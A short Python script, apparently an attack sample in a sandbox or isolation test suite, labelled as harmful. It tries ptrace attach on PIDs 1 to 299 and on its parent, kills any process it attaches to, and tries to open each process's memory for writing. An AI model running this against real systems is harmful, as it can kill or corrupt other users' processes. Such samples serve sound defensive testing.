# attack: all other processes are traced, stopped and written to
# harmless: no
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
PTRACE_ATTACH, PTRACE_SEIZE, PTRACE_KILL = 16, 0x4206, 8
for pid in [*range(1, 300), os.getppid()]:
    if pid != os.getpid() and pid != os.getppid() or pid == os.getppid():
        for request in (PTRACE_ATTACH, PTRACE_SEIZE):
            if libc.ptrace(request, pid, None, None) == 0:
                print("traced", pid)
                libc.ptrace(PTRACE_KILL, pid, None, None)
    try:
        with open(f"/proc/{pid}/mem", "wb", 0) as memory:
            print("opened to write", pid, memory)
    except OSError:
        pass
